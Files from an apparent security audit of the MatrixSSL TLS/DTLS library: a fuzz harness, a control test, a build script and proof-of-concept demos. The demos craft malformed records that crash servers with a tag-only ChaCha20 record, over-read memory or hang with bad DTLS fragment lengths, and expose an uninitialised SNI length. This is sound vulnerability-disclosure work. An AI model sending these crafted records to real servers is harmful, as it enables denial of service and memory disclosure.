                wrec_t *w = &g_wire[side][g_nwire[side]++];
                memcpy(w->hdr, d + off + 3, 8);
                w->dig = dg; w->len = rl;
            }
        }
        off += 13 + rl;
    }
}

typedef struct { unsigned char *d; int len; } dgram_t;
typedef struct
{
    ssl_t *ssl;
    dgram_t q[64];      /* datagrams in flight towards this endpoint */
    int nq;
    int dead;
    int appRecv;
} ep_t;

static ep_t E[2];

static void q_push(ep_t *to, const unsigned char *d, int len)
{
    if (to->nq >= 64)
    {
        return;
    }
    to->q[to->nq].d = malloc(len);
    memcpy(to->q[to->nq].d, d, len);
    to->q[to->nq].len = len;
    to->nq++;
}

/* flush: take everything the DTLS layer wants to send right now */
static void flush(int side, int lossPct, int dupPct)
{
    ep_t *me = &E[side], *peer = &E[1 - side];
    unsigned char *buf;
    int32 len;
    int guard = 0;

    if (me->dead)
    {
        return;
    }
    while ((len = matrixDtlsGetOutdata(me->ssl, &buf)) > 0 && guard++ < 64)
    {
        wire_check(side, buf, len);
        if (rand() % 100 >= lossPct)
        {
            q_push(peer, buf, len);
            if (rand() % 100 < dupPct)
            {
                q_push(peer, buf, len);
            }
        }
        matrixDtlsSentData(me->ssl, len);
    }
    if (len < 0)
    {
        me->dead = 1;
    }
}

static void deliver_one(int side)
{
    ep_t *me = &E[side];
    unsigned char *rbuf, *pt;
    uint32 ptLen;
    int32 rc, avail;
    int idx;
    dgram_t g;

    if (me->nq == 0)
    {
        return;
    }
    idx = (rand() % 4 == 0) ? rand() % me->nq : 0; /* occasional reordering */
    g = me->q[idx];
    memmove(&me->q[idx], &me->q[idx + 1], (me->nq - idx - 1) * sizeof(dgram_t));
    me->nq--;
    if (me->dead)
    {
        free(g.d);
        return;
    }
    avail = matrixSslGetReadbuf(me->ssl, &rbuf);
    if (avail < g.len)
    {
        free(g.d);
        return;
    }
    memcpy(rbuf, g.d, g.len);
    rc = matrixSslReceivedData(me->ssl, g.len, &pt, &ptLen);
    free(g.d);
    while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
    {
        if (rc == MATRIXSSL_APP_DATA)
        {
            me->appRecv += ptLen;
        }
        else if (pt[0] == SSL_ALERT_LEVEL_FATAL || pt[1] == SSL_ALERT_CLOSE_NOTIFY)
        {
            me->dead = 1;
            return;
        }
        rc = matrixSslProcessedData(me->ssl, &pt, &ptLen);
    }
    if (rc < 0)
    {
        me->dead = 1;
    }
}

static psCipher16_t g_suite;

static void setup(sslKeys_t *ck, sslKeys_t *sk, sslSessionId_t *sid, int ver, int ticket)
{
    sslSessOpts_t o;
    int32 rc;

    memset(E, 0, sizeof(E));
    memset(&o, 0, sizeof(o));
    o.versionFlag = ver | SSL_FLAGS_DTLS;
    if (matrixSslNewServerSession(&E[1].ssl, sk, NULL, &o) < 0)
    {
        printf("server fail\n"); exit(2);
    }
    memset(&o, 0, sizeof(o));
    o.versionFlag = ver | SSL_FLAGS_DTLS;
    o.ticketResumption = ticket;
    rc = matrixSslNewClientSession(&E[0].ssl, ck, sid, &g_suite, 1, certCb, NULL, NULL,
            NULL, &o);
    if (rc < 0)
    {
        printf("client fail %d\n", rc); exit(2);
    }
}

static void teardown(void)
{
    int s, i;
    for (s = 0; s < 2; s++)
    {
        for (i = 0; i < E[s].nq; i++)
        {
            free(E[s].q[i].d);
        }
        matrixSslDeleteSession(E[s].ssl);
    }
}

static void run(int steps, int lossPct, int dupPct)
{
    int i, side;
    for (i = 0; i < steps; i++)
    {
        int a = rand() % 100;
        side = rand() % 2;
        if (a < 40)
        {
            deliver_one(side);
            flush(side, lossPct, dupPct);
        }
        else if (a < 60)
        {
            /* timer: with nothing queued this rebuilds the last flight */
            g_phase = "timer";
            flush(side, lossPct, dupPct);
            g_phase = "run";
        }
        else if (a < 85)
        {
            if (!E[side].dead && matrixSslHandshakeIsComplete(E[side].ssl))
            {
                char msg[64];
                int n = 1 + rand() % 60;
                memset(msg, 'a' + (i % 26), n);
                if (send_app(E[side].ssl, msg, n) >= 0)
                {
                    flush(side, lossPct, dupPct);
                }
            }
        }
        else if (a < 87)
        {
            if (!E[side].dead)
            {
                matrixSslEncodeClosureAlert(E[side].ssl);
                flush(side, lossPct, dupPct);
            }
        }
        else
        {
            deliver_one(1 - side);
            flush(1 - side, lossPct, dupPct);
        }
    }
}

int main(int argc, char **argv)
{
    sslKeys_t *ck, *sk;
    sslSessionId_t *sid;
    psCipher16_t suites[] = { TLS_RSA_WITH_AES_128_GCM_SHA256,
                              TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384,
                              TLS_RSA_WITH_AES_128_CBC_SHA,
                              TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA256 };
    int iters = argc > 1 ? atoi(argv[1]) : 50;
    int it, si, done[2] = { 0, 0 }, total = 0;

    g_verbose = argc > 2;
    matrixSslOpen();
    matrixDtlsSetPmtu(1400);
    ck = load_rsa_keys(0);
    sk = load_rsa_keys(1);

    for (it = 0; it < iters; it++)
    {
        for (si = 0; si < 4; si++)
        {
            int ver = (si == 2 && (it & 1)) ? SSL_FLAGS_TLS_1_1 : SSL_FLAGS_TLS_1_2;
            int loss = (it % 4) * 10, dup = (it % 3) * 10, ticket = (it / 2) & 1;
            if (si == 3 && ver != SSL_FLAGS_TLS_1_2) continue;
            g_suite = suites[si];
            srand(it * 131 + si);
            seal_reset(); g_nwire[0] = g_nwire[1] = 0;
            matrixSslNewSessionId(&sid, NULL);
            g_phase = "run";
            setup(ck, sk, sid, ver, ticket);
            flush(0, 0, 0);
            run(300, loss, dup);
            done[0] += matrixSslHandshakeIsComplete(E[0].ssl);
            teardown();
            /* resumed */
            seal_reset(); g_nwire[0] = g_nwire[1] = 0;
            g_phase = "run";
            setup(ck, sk, sid, ver, ticket);
            flush(0, 0, 0);
            run(300, loss, dup);
            done[1] += matrixSslHandshakeIsComplete(E[0].ssl);
            total++;
            teardown();
            matrixSslDeleteSessionId(sid);
        }
    }
    printf("runs=%d full-complete=%d resumed-complete=%d seal-violations=%d wire-violations=%d\n",
        total, done[0], done[1], g_violations, g_wireViol);
    return (g_violations || g_wireViol) ? 1 : 0;
}
