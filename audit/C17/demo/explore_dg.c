/* exploration: client with a TLS 1.3 early-data PSK offers 1.3+1.2; second server is TLS 1.2 only */
#include "harness.h"
int main(int argc, char **argv)
{
    sslKeys_t *ck, *sk; ssl_t *c, *s; sslSessionId_t *sid; sslSessOpts_t o;
    psCipher16_t suites[2] = { TLS_AES_128_GCM_SHA256, TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256 };
    int32 rc; int t;
    g_verbose = 1;
    matrixSslOpen(); ck = load_rsa_keys(0); sk = load_rsa_keys(1);
    for (t = 0; t < 2; t++) {
    psCipher16_t s12 = t ? TLS_RSA_WITH_AES_128_CBC_SHA : TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256;
    suites[1] = s12;
    matrixSslNewSessionId(&sid, NULL);
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_3 | SSL_FLAGS_TLS_1_2; o.tls13SessionMaxEarlyData = 16384;
    matrixSslNewServerSession(&s, sk, NULL, &o);
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_3 | SSL_FLAGS_TLS_1_2;
    rc = matrixSslNewClientSession(&c, ck, sid, suites, 2, certCb, NULL, NULL, NULL, &o);
    printf("new client %d\n", rc);
    g_phase = "c1"; rc = pump(c, s, NULL);
    printf("conn1 rc=%d done %d %d ver13=%d\n", rc, matrixSslHandshakeIsComplete(c), matrixSslHandshakeIsComplete(s), USING_TLS_1_3(c));
    matrixSslDeleteSession(c); matrixSslDeleteSession(s);
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2;
    matrixSslNewServerSession(&s, sk, NULL, &o);
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_3 | SSL_FLAGS_TLS_1_2;
    rc = matrixSslNewClientSession(&c, ck, sid, suites, 2, certCb, NULL, NULL, NULL, &o);
    printf("new client2 %d maxEarly=%d\n", rc, matrixSslGetMaxEarlyData(c));
    g_phase = "c2-early";
    g_phase = "c2-hs"; rc = pump(c, s, NULL);
    printf("conn2 rc=%d done %d %d ver13=%d flags ws=%d\n", rc, matrixSslHandshakeIsComplete(c), matrixSslHandshakeIsComplete(s), USING_TLS_1_3(c), !!(c->flags & SSL_FLAGS_WRITE_SECURE));
    g_phase = "c2-app"; rc = send_app(c, "after", 5); printf("app rc=%d\n", rc); rc = pump(c, s, NULL); printf("rc=%d\n", rc);
    matrixSslDeleteSession(c); matrixSslDeleteSession(s); matrixSslDeleteSessionId(sid);
    }
    printf("violations %d\n", g_violations);
    return 0;
}
