#!/bin/sh
# Builds all demos against the UNMODIFIED static libraries of the worktree
# (run `make -j4` at the worktree top level first).
# Include paths / defines are those of matrixssl/test (see `make V=1`).
# The demo sources (not the library) are compiled with AddressSanitizer when
# the compiler supports it, so that heap overruns inside the library are
# reported; set NO_ASAN=1 to build without it.
set -e
HERE=$(cd "$(dirname "$0")" && pwd)
W=$(cd "$HERE/../.." && pwd)
CC=${CC:-cc}
INC="-I$W -I$W/core/config -I$W/core/include -I$W/core/osdep/include -I$W/core/include/sfzcl"
DEF="-DUSE_CL_PKCS -DUSE_CL_CERTLIB -D_GNU_SOURCE -D__SIZEOF_LONG_LONG__=8 -DSIZEOF_LONG=8"
LIBS="$W/matrixssl/libssl_s.a $W/crypto/libcrypt_s.a $W/core/libcore_s.a -lpthread"
SAN=""
if [ -z "$NO_ASAN" ]; then
    echo 'int main(void){return 0;}' > "$HERE/.san.c"
    if $CC -fsanitize=address -o "$HERE/.san" "$HERE/.san.c" >/dev/null 2>&1; then
        SAN="-fsanitize=address -fno-omit-frame-pointer"
    fi
    rm -f "$HERE/.san" "$HERE/.san.c"
fi
for d in demo1 demo2 demo3 demo4 demo5 control; do
    [ -f "$HERE/$d.c" ] || continue
    echo "building $d ${SAN:+(with AddressSanitizer)}"
    $CC -g -O0 -w $SAN $INC $DEF -o "$HERE/$d" "$HERE/$d.c" $LIBS
done
