/*
    control: honest handshakes of the kinds the findings touch; must print
    "OK" for every case and exit 0, with the unmodified and with every repaired
    library.
      1. DTLS 1.2 full handshake, PMTU 400 so that the server's Certificate
         (and CertificateRequest) go out as DTLS handshake fragments, client
         authentication, application data both ways
      2. DTLS 1.2 server: a genuine ClientHello split by hand into two
         handshake fragments, then the rest of an honest handshake
      3. TLS 1.2 handshake with client authentication (CertificateRequest),
         server's first flight re-framed so that the Certificate message spans
         two records (TLS record-spanning reassembly), application data
      4. TLS 1.3 ChaCha20-Poly1305 handshake, application data both ways,
         including an empty application data record
      5. TLS 1.3 AES-GCM handshake with server_name: the server must see the
         name
 */
#include "common.h"

static int fails;
#define CHECK(c, what) do { if (!(c)) { printf("FAIL: %s\n", what); fails++; } } while (0)

/* Deliver everything a has to send to b; DTLS: one call per datagram */
static int32 flush(ssl_t *a, ssl_t *b, int dtls, unsigned char *appOut, int *appLen)
{
    unsigned char *out, *pt, *rb;
    static unsigned char tmp[70000];
    uint32 ptLen;
    int32 n, rc = 0, rbl;
    int sent = 0;

    for (;;)
    {
        n = dtls ? matrixDtlsGetOutdata(a, &out) : matrixSslGetOutdata(a, &out);
        if (n <= 0) break;
        memcpy(tmp, out, n);
        if (dtls) matrixDtlsSentData(a, n); else matrixSslSentData(a, n);
        sent++;
        rbl = matrixSslGetReadbufOfSize(b, n, &rb);
        if (rbl < n) return -1000;
        memcpy(rb, tmp, n);
        rc = matrixSslReceivedData(b, n, &pt, &ptLen);
        while (rc == MATRIXSSL_APP_DATA || rc == MATRIXSSL_RECEIVED_ALERT)
        {
            if (rc == MATRIXSSL_RECEIVED_ALERT)
            {
                printf("  alert %d/%d received\n", pt[0], pt[1]);
                return -1001;
            }
            if (appOut && appLen) { memcpy(appOut + *appLen, pt, ptLen); *appLen += ptLen; }
            rc = matrixSslProcessedData(b, &pt, &ptLen);
        }
        if (rc < 0) return rc;
    }
    return sent ? 1 : 0;
}

static int handshake(ssl_t *cli, ssl_t *srv, int dtls)
{
    int rounds = 0;
    int32 r1, r2;
    do
    {
        r1 = flush(cli, srv, dtls, NULL, NULL);
        if (r1 < 0) { printf("  server side rc=%d\n", (int) r1); return -1; }
        r2 = flush(srv, cli, dtls, NULL, NULL);
        if (r2 < 0) { printf("  client side rc=%d\n", (int) r2); return -1; }
    } while ((r1 > 0 || r2 > 0) && rounds++ < 40);
    return (matrixSslHandshakeIsComplete(cli) && matrixSslHandshakeIsComplete(srv)) ? 0 : -1;
}

static int appdata(ssl_t *from, ssl_t *to, int dtls, const char *msg, int len)
{
    unsigned char *wb, got[4096];
    int gotLen = 0;
    int32 n;

    n = matrixSslGetWritebuf(from, &wb, len ? len : 1);
    if (n < len) return -1;
    memcpy(wb, msg, len);
    if (matrixSslEncodeWritebuf(from, len) < 0) return -1;
    if (flush(from, to, dtls, got, &gotLen) < 0) return -1;
    return (gotLen == len && memcmp(got, msg, len) == 0) ? 0 : -1;
}

static void newPair(ssl_t **cli, ssl_t **srv, sslKeys_t *keys, int32 ver,
        const psCipher16_t *suite, int clientAuth, tlsExtension_t *ext)
{
    sslSessOpts_t o;
    memset(&o, 0, sizeof(o));
    o.versionFlag = ver;
    if (matrixSslNewServerSession(srv, keys, clientAuth ? certCb : NULL, &o) < 0) exit(2);
    memset(&o, 0, sizeof(o));
    o.versionFlag = ver;
    if (matrixSslNewClientSession(cli, keys, NULL, suite, suite ? 1 : 0, certCb,
            "localhost", ext, NULL, &o) < 0) exit(2);
}

int main(void)
{
    sslKeys_t *keys;
    ssl_t *cli, *srv;
    psCipher16_t chacha = TLS_CHACHA20_POLY1305_SHA256;
    psCipher16_t gcm13 = TLS_AES_128_GCM_SHA256;
    int32 n, rc;
    unsigned char *out;

    if (matrixSslOpen() < 0) return 2;
    keys = mkKeys();

    /* 1 */
    matrixDtlsSetPmtu(400);
    newPair(&cli, &srv, keys, SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS, NULL, 1, NULL);
    rc = handshake(cli, srv, 1);
    CHECK(rc == 0, "1 DTLS 1.2 fragmented flights, client auth: handshake");
    CHECK(cli->fragLenStored > 0, "1 client reassembled a fragmented handshake message");
    if (rc == 0)
    {
        CHECK(appdata(cli, srv, 1, "hello from client", 17) == 0, "1 DTLS app data c->s");
        CHECK(appdata(srv, cli, 1, "hello from server", 17) == 0, "1 DTLS app data s->c");
    }
    matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
    printf("case 1 done\n");
    matrixDtlsSetPmtu(-1);

    /* 2 */
    {
        unsigned char ch[2048], hs[2048], rec[2048];
        int chLen, half, hl, rl;
        newPair(&cli, &srv, keys, SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS, NULL, 0, NULL);
        n = matrixDtlsGetOutdata(cli, &out);
        chLen = n - 25; memcpy(ch, out + 25, chLen);
        matrixDtlsSentData(cli, n);
        half = chLen / 2;
        hl = mkhs(hs, SSL_HS_CLIENT_HELLO, chLen, 0, half, chLen - half, ch + half, chLen - half);
        rl = mkrec(rec, 22, 0, 0, hs, hl);                 /* second half first */
        rc = feed(srv, rec, rl, 0);
        CHECK(rc == MATRIXSSL_REQUEST_RECV, "2 first ClientHello fragment accepted");
        hl = mkhs(hs, SSL_HS_CLIENT_HELLO, chLen, 0, 0, half, ch, half);
        rl = mkrec(rec, 22, 0, 1, hs, hl);
        rc = feed(srv, rec, rl, 0);
        CHECK(rc == MATRIXSSL_REQUEST_SEND, "2 reassembled ClientHello answered");
        rc = handshake(cli, srv, 1);
        CHECK(rc == 0, "2 DTLS handshake after hand-fragmented ClientHello");
        if (rc == 0) CHECK(appdata(cli, srv, 1, "abc", 3) == 0, "2 DTLS app data");
        matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
        printf("case 2 done\n");
    }

    /* 3 */
    {
        static unsigned char fl[70000], nf[70000];
        int flen, i, nl = 0, done = 0;
        newPair(&cli, &srv, keys, SSL_FLAGS_TLS_1_2, NULL, 1, NULL);
        CHECK(flush(cli, srv, 0, NULL, NULL) >= 0, "3 ClientHello");
        flen = matrixSslGetOutdata(srv, &out);
        memcpy(fl, out, flen); matrixSslSentData(srv, flen);
        /* split the first handshake record that is longer than 600 bytes */
        for (i = 0; i + 5 <= flen; )
        {
            int l = (fl[i + 3] << 8) | fl[i + 4];
            if (!done && fl[i] == 22 && l > 600)
            {
                int a = 300, b = l - 300;
                memcpy(nf + nl, fl + i, 3); nf[nl + 3] = a >> 8; nf[nl + 4] = a;
                memcpy(nf + nl + 5, fl + i + 5, a); nl += 5 + a;
                memcpy(nf + nl, fl + i, 3); nf[nl + 3] = b >> 8; nf[nl + 4] = b;
                memcpy(nf + nl + 5, fl + i + 5 + a, b); nl += 5 + b;
                done = 1;
            }
            else
            {
                memcpy(nf + nl, fl + i, 5 + l); nl += 5 + l;
            }
            i += 5 + l;
        }
        CHECK(done, "3 flight re-framed");
        rc = feed(cli, nf, nl, 0);
        CHECK(rc == MATRIXSSL_REQUEST_SEND, "3 client accepted flight with a message spanning two records");
        CHECK(cli->sec.keySelect.peerSigAlgsLen > 0 &&
              cli->sec.keySelect.peerSigAlgsLen <= TLS_MAX_SIGNATURE_ALGORITHMS,
              "3 CertificateRequest signature algorithms recorded");
        rc = handshake(cli, srv, 0);
        CHECK(rc == 0, "3 TLS 1.2 client-auth handshake");
        if (rc == 0)
        {
            CHECK(appdata(cli, srv, 0, "GET /", 5) == 0, "3 app data c->s");
            CHECK(appdata(srv, cli, 0, "200 OK", 6) == 0, "3 app data s->c");
        }
        matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
        printf("case 3 done\n");
    }

    /* 4 */
    newPair(&cli, &srv, keys, SSL_FLAGS_TLS_1_3, &chacha, 0, NULL);
    rc = handshake(cli, srv, 0);
    CHECK(rc == 0 && cli->cipher->ident == TLS_CHACHA20_POLY1305_SHA256,
        "4 TLS 1.3 ChaCha20 handshake");
    if (rc == 0)
    {
        CHECK(appdata(cli, srv, 0, "ping", 4) == 0, "4 app data c->s");
        CHECK(appdata(srv, cli, 0, "pong", 4) == 0, "4 app data s->c");
        CHECK(appdata(cli, srv, 0, "", 0) == 0, "4 empty app data record c->s");
        CHECK(appdata(cli, srv, 0, "x", 1) == 0, "4 one byte app data c->s");
    }
    matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
    printf("case 4 done\n");

    /* 5 */
    {
        tlsExtension_t *ext;
        unsigned char *sni;
        int32 sniLen;
        matrixSslNewHelloExtension(&ext, NULL);
        matrixSslCreateSNIext(NULL, (unsigned char *) "localhost", 9, &sni, &sniLen);
        matrixSslLoadHelloExtension(ext, sni, sniLen, EXT_SNI);
        newPair(&cli, &srv, keys, SSL_FLAGS_TLS_1_3, &gcm13, 0, ext);
        rc = handshake(cli, srv, 0);
        CHECK(rc == 0, "5 TLS 1.3 AES-GCM handshake with server_name");
        if (rc == 0)
        {
            CHECK(appdata(cli, srv, 0, "ping", 4) == 0, "5 app data c->s");
            CHECK(appdata(cli, srv, 0, "", 0) == 0, "5 empty app data record c->s");
        }
        matrixSslDeleteSession(cli); matrixSslDeleteSession(srv);
        matrixSslDeleteHelloExtension(ext);
        psFree(sni, NULL);
        printf("case 5 done\n");
    }

    matrixSslDeleteKeys(keys);
    matrixSslClose();
    if (fails)
    {
        printf("CONTROL FAILED: %d checks\n", fails);
        return 1;
    }
    printf("OK: all honest handshakes work\n");
    return 0;
}
