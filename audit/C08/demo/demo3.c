/*
    demo3: TLS 1.3 with TLS_CHACHA20_POLY1305_SHA256: a protected record that
    consists of the 16 byte authentication tag only (empty TLSInnerPlaintext,
    not even the content type octet) makes matrixSslDecodeTls13
    (matrixssl/tls13Decode.c) compute

        ptLen = ssl->rec.len - AEAD_TAG_LEN(ssl);      ==  0
        ptLen--;  / * TLSInnerPlaintext type * /        ==  0xFFFFFFFF (uint32_t)
        p = decryptTo + ptLen;                          4 GB behind the buffer
        while (*p == 0 && p > decryptTo) ...            <-- wild read

    csAesGcmDecryptTls13 refuses a record without ciphertext (ctLen <= 0), but
    its sibling csChacha20Poly1305IetfDecryptTls13 (tls13CipherSuite.c) only
    requires len >= 16, and a tag over an empty ciphertext verifies.

    The peer needs the traffic keys, i.e. it is the other end of the
    connection - which for a server is any anonymous client that completes a
    handshake (no client authentication is needed) and offers only the
    ChaCha20 suite, and for a client is the server it connects to.

    History: genuine TLS 1.3 handshake client <-> server with suite 0x1303;
    then the client sends the record  17 03 03 00 10 || Poly1305 tag  computed
    with its own application write key / IV / sequence number.  The server's
    matrixSslReceivedData() crashes.
 */
#include "common.h"

static int pump(ssl_t *a, ssl_t *b)
{
    int progress = 1, rounds = 0;
    unsigned char *out;
    int32 n, rc;
    static unsigned char tmp[70000];

    while (progress && rounds++ < 50)
    {
        progress = 0;
        while ((n = matrixSslGetOutdata(a, &out)) > 0)
        {
            memcpy(tmp, out, n); matrixSslSentData(a, n);
            rc = feed(b, tmp, n, 0); progress = 1;
            if (rc < 0) return rc;
        }
        while ((n = matrixSslGetOutdata(b, &out)) > 0)
        {
            memcpy(tmp, out, n); matrixSslSentData(b, n);
            rc = feed(a, tmp, n, 0); progress = 1;
            if (rc < 0) return rc;
        }
    }
    return 0;
}

static int attack(void)
{
    sslKeys_t *keys;
    ssl_t *cli, *srv;
    int32 rc;
    psCipher16_t suite = TLS_CHACHA20_POLY1305_SHA256;
    unsigned char rec[64], nonce[12], aad[5];
    int i;

    if (matrixSslOpen() < 0) return 2;
    keys = mkKeys();
    srv = mkServer(keys, SSL_FLAGS_TLS_1_3);
    cli = mkClient(keys, SSL_FLAGS_TLS_1_3, NULL, &suite, 1);
    rc = pump(cli, srv);
    printf("handshake: rc=%d client complete=%d server complete=%d suite=0x%04x\n",
        (int) rc, matrixSslHandshakeIsComplete(cli),
        matrixSslHandshakeIsComplete(srv), cli->cipher->ident);
    if (rc < 0 || !matrixSslHandshakeIsComplete(srv) ||
        cli->cipher->ident != TLS_CHACHA20_POLY1305_SHA256)
    {
        printf("handshake did not complete with the ChaCha20 suite\n");
        return 2;
    }

    /* The record a (malicious) client builds with the keys it owns: opaque
       type 23, legacy version, length 16, tag over the empty ciphertext */
    rec[0] = 23; rec[1] = 3; rec[2] = 3; rec[3] = 0; rec[4] = 16;
    memcpy(aad, rec, 5);
    memset(nonce, 0, 12);
    memcpy(nonce + 4, cli->sec.seq, 8);
    for (i = 0; i < 12; i++)
    {
        nonce[i] ^= cli->sec.tls13WriteIv[i];
    }
    psChacha20Poly1305IetfEncrypt(&cli->sec.encryptCtx.chacha20poly1305ietf,
        rec + 5, 0, nonce, aad, 5, rec + 5);
    hexdump("record sent to the server", rec, 21);
    fflush(stdout);

    rc = feed(srv, rec, 21, 0);
    printf("server: matrixSslReceivedData returned %d\n", (int) rc);

    matrixSslDeleteSession(cli);
    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    return 0;
}

int main(void)
{
    char why[256];
    int r = run_child(attack, 60, why, sizeof(why));

    if (r != 0)
    {
        printf("VIOLATION: TLS 1.3 server (ChaCha20-Poly1305) reads 4 GB outside "
            "its input buffer on a 21 byte record holding only an authentication "
            "tag (ptLen underflow in matrixSslDecodeTls13, tls13Decode.c; missing "
            "minimum length in csChacha20Poly1305IetfDecryptTls13): %s\n", why);
        return 1;
    }
    printf("OK: the tag-only record was answered with an alert, no crash\n");
    return 0;
}
