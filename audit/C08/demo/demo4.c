/*
    demo4: the fragment_length field of a DTLS handshake fragment is never
    validated against the record that carries it (parseSSLHandshake,
    matrixssl/sslDecode.c, "if (fragLen != hsLen)" branch): only
    fragOffset + fragLen <= hsLen / fragLenStored is checked before

        Memcpy(ssl->fragMessage + fragOffset, c, fragLen);

    (a) fragment_length larger than what the datagram holds: the copy reads
        far past the end of ssl->inbuf (heap over-read; the bytes become
        handshake message content).
        History: DTLS client that has sent its ClientHello receives ONE
        unauthenticated 35 byte datagram: ServerHello fragment, length 60000,
        fragment_offset 0, fragment_length 50000, 10 body bytes.

    (b) fragment_length 0: accepted and recorded in ssl->fragHeaders[]; once
        the other fragments complete the message, dtlsHsHashFragMsg (dtls.c)
        walks the fragments with "nextOffset += fragLen; i = 0;" and never
        advances past the empty one: matrixSslReceivedData() never returns.
        History: DTLS server receives three unauthenticated datagrams with
        ClientHello fragments (length 100, message_seq 0):
        (offset 0, len 50), (offset 50, len 0), (offset 1, len 50).
        (fragTotal is a plain sum, so the overlapping third fragment
        "completes" the message.)
 */
#include "common.h"

static int overread(void)
{
    sslKeys_t *keys;
    ssl_t *cli;
    unsigned char *out;
    int32 n, rc;
    unsigned char hs[256], rec[256], body[64];
    int hl, rl;

    if (matrixSslOpen() < 0) return 2;
    keys = mkKeys();
    cli = mkClient(keys, SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS, NULL, NULL, 0);
    n = matrixDtlsGetOutdata(cli, &out);
    matrixDtlsSentData(cli, n);
    printf("(a) client sent its ClientHello (%d bytes); inbuf is %d bytes\n",
        (int) n, (int) cli->insize);

    memset(body, 0x41, sizeof(body));
    hl = mkhs(hs, SSL_HS_SERVER_HELLO, 60000, 0, 0, 50000, body, 10);
    rl = mkrec(rec, 22, 0, 0, hs, hl);
    printf("(a) datagram of %d bytes: ServerHello fragment length=60000 "
        "fragment_offset=0 fragment_length=50000, 10 body bytes present\n", rl);
    fflush(stdout);
    rc = feed(cli, rec, rl, 0);
    printf("(a) matrixSslReceivedData rc=%d, library accounts fragTotal=%u bytes "
        "of message body received\n", (int) rc, (unsigned) cli->fragTotal);
    fflush(stdout);
    if (cli->fragTotal > 10)
    {
        /* no sanitizer stopped it: the copy was made, from memory that is
           not part of the datagram (nor, for the most part, of inbuf) */
        printf("(a) %u bytes were copied from behind the 10 received ones, "
            "%d of them from behind the end of the %d byte input buffer\n",
            (unsigned) cli->fragTotal - 10,
            (int) cli->fragTotal - ((int) cli->insize - 25), (int) cli->insize);
        fflush(stdout);
        return 3;
    }
    matrixSslDeleteSession(cli);
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    return 0;
}

static int hang(void)
{
    sslKeys_t *keys;
    ssl_t *srv;
    int32 rc;
    unsigned char hs[256], rec[256], body[64];
    int hl, rl;

    if (matrixSslOpen() < 0) return 2;
    keys = mkKeys();
    srv = mkServer(keys, SSL_FLAGS_TLS_1_2 | SSL_FLAGS_DTLS);
    memset(body, 0x41, sizeof(body));

    hl = mkhs(hs, SSL_HS_CLIENT_HELLO, 100, 0, 0, 50, body, 50);
    rl = mkrec(rec, 22, 0, 0, hs, hl);
    rc = feed(srv, rec, rl, 0);
    printf("(b) fragment offset 0 len 50: rc=%d\n", (int) rc);
    hl = mkhs(hs, SSL_HS_CLIENT_HELLO, 100, 0, 50, 0, body, 0);
    rl = mkrec(rec, 22, 0, 1, hs, hl);
    rc = feed(srv, rec, rl, 0);
    printf("(b) fragment offset 50 len 0: rc=%d\n", (int) rc);
    printf("(b) fragment offset 1 len 50: calling matrixSslReceivedData ...\n");
    fflush(stdout);
    hl = mkhs(hs, SSL_HS_CLIENT_HELLO, 100, 0, 1, 50, body, 50);
    rl = mkrec(rec, 22, 0, 2, hs, hl);
    rc = feed(srv, rec, rl, 0);
    printf("(b) returned rc=%d\n", (int) rc);

    matrixSslDeleteSession(srv);
    matrixSslDeleteKeys(keys);
    matrixSslClose();
    return 0;
}

int main(int argc, char **argv)
{
    char why[256];
    int r = 0, bad = 0;
    int doA = argc < 2 || argv[1][0] == 'a';
    int doB = argc < 2 || argv[1][0] == 'b';

    if (doA) r = run_child(overread, 30, why, sizeof(why));
    if (doA && r != 0)
    {
        printf("VIOLATION: (a) DTLS client copied fragment_length=50000 bytes out "
            "of a datagram that holds 10 (heap over-read of ssl->inbuf in "
            "parseSSLHandshake, sslDecode.c): %s\n", why);
        bad = 1;
    }
    r = 0;
    if (doB) r = run_child(hang, 10, why, sizeof(why));
    if (doB && r != 0)
    {
        printf("VIOLATION: (b) DTLS server loops forever in dtlsHsHashFragMsg "
            "(dtls.c) after three ClientHello fragments, one of them with "
            "fragment_length 0: %s\n", why);
        bad = 1;
    }
    if (!bad)
    {
        printf("OK: %s%s\n", doA ? "(a) oversized fragment_length refused " : "", doB ? "(b) call returned" : "");
    }
    return bad;
}
