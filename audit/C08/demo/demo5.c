/*
    demo5: TLS 1.3 server, ClientHello with a server_name extension:
    tls13ParseServerName (matrixssl/tls13DecodeExt.c) passes the address of
    an UNINITIALISED local (size_t copiedLen) as the capacity argument of
    psParseBufCopyN().  When the stack garbage is smaller than the host name
    length nothing is copied (PS_OUTPUT_LENGTH, return value ignored) and
    ssl->expectedName - handed to the SNI callback and to certificate
    selection - is uninitialised heap memory plus a terminator.

    The demo clears the stack below the call (so that the garbage is 0) and
    fills freed heap blocks with '#', then looks at what the server recorded.
    (valgrind reports "Conditional jump or move depends on uninitialised
    value(s)" in psParseBufCopyN for the same run, whatever the garbage is.)
 */
#include "common.h"

static void __attribute__((noinline)) clearStack(void)
{
    volatile unsigned char pad[32768];
    size_t i;
    for (i = 0; i < sizeof(pad); i++) pad[i] = 0;
}

int main(void)
{
    sslKeys_t *keys;
    ssl_t *cli, *srv;
    sslSessOpts_t o;
    tlsExtension_t *ext;
    unsigned char *sni, *out, buf[4096];
    int32 sniLen, n, rc;
    int i;
    void *junk[64];

    if (matrixSslOpen() < 0) return 2;
    keys = mkKeys();
    srv = mkServer(keys, SSL_FLAGS_TLS_1_3);
    matrixSslNewHelloExtension(&ext, NULL);
    matrixSslCreateSNIext(NULL, (unsigned char *) "localhost", 9, &sni, &sniLen);
    matrixSslLoadHelloExtension(ext, sni, sniLen, EXT_SNI);
